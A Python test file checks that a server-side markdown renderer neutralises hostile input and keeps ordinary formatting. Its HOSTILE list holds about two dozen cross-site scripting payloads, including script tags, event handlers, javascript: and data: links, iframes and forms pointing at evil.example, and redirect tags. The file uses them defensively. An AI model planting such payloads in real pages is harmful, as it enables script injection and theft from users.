"""Markdown from models is rendered on the server and nothing in it can run or fetch."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from feedback.rendering import ALLOWED_TAGS, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)><circle r=1></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=pw><button>go</button></form>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '<a href="javascript:alert(1)">raw</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<details open ontoggle=alert(1)>x</details>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    '![x](x" onerror="alert(1))',
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
]

SAFE_ATTRIBUTES = {"href", "title", "rel", "target", "class", "style", "start"}


class _Elements(HTMLParser):
    """Every element and attribute the browser would build from the HTML (text is not an element)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_inert(text):
    html = str(render_markdown(text))
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, (tag, html)
        assert set(attrs) <= SAFE_ATTRIBUTES, (attrs, html)
        href = (attrs.get("href") or "").strip().lower()
        assert not href or href.startswith(("http://", "https://", "mailto:")), html
        assert re.fullmatch(r"(language-[\w+#.-]+)?", attrs.get("class") or ""), html
        assert re.fullmatch(r"(text-align:(left|right|center))?", attrs.get("style") or ""), html
    # What the model wrote is still there, as text.
    visible = re.sub(r"<[^>]+>", "", html)
    assert visible.strip(), html


def test_raw_html_shows_as_text():
    assert (
        str(render_markdown("<script>alert(1)</script>")) == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"
    )


def test_code_blocks_keep_their_language_and_escape_content():
    html = str(render_markdown("```python\nif a < b:\n    print('<b>')\n```"))
    assert html.startswith('<pre><code class="language-python">')
    assert "if a &lt; b:" in html and "print('&lt;b&gt;')" in html


def test_a_hostile_code_language_is_dropped():
    html = str(render_markdown('```x" onmouseover="alert(1)\ncode\n```'))
    assert "onmouseover" not in html.split(">", 2)[1] and "<pre><code>" in html


def test_ordinary_markdown_survives():
    html = str(
        render_markdown(
            "# Title\n\nSome **bold**, _em_, ~~old~~ and `code`.\n\n"
            '1. one\n2. two\n\n> quoted\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n[site](https://example.org "t")'
        )
    )
    for fragment in (
        "<h1>Title</h1>",
        "<strong>bold</strong>",
        "<em>em</em>",
        "<s>old</s>",
        "<code>code</code>",
        "<ol>",
        "<blockquote>",
        '<th style="text-align:left">a</th>',
        '<a href="https://example.org" title="t" target="_blank" rel="noopener noreferrer nofollow">site</a>',
    ):
        assert fragment in html, (fragment, html)


def test_images_are_not_fetched():
    html = str(render_markdown("![alt](https://example.org/x.png)"))
    assert "<img" not in html


def test_empty_text():
    assert render_markdown("") == "" and render_markdown(None) == ""


def test_relative_links_into_the_app_are_dropped():
    html = str(render_markdown("[undo](/projects/x/annotate/undo/) [ok](https://example.org)"))
    hrefs = [attrs.get("href") for tag, attrs in elements(html) if tag == "a"]
    assert hrefs == [None, "https://example.org"]
